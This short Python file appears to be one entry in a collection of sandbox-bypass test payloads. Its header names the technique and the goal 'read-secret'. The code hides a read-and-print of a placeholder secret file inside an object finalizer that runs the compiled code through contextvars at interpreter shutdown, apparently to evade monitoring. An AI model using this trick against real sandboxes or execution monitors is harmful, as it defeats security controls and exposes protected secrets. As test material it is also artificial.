# technique: Context.run of exec in an exit handler's place: the context outlives the program's frames
# goal: read-secret
# source: own analysis: the empty stack
import contextvars
import functools
code = compile('print(open("@SECRET@").read(), flush=True)', 'x', 'exec')


class Last:
    __del__ = staticmethod(functools.partial(contextvars.Context().run, exec, code, {}))


last = Last()
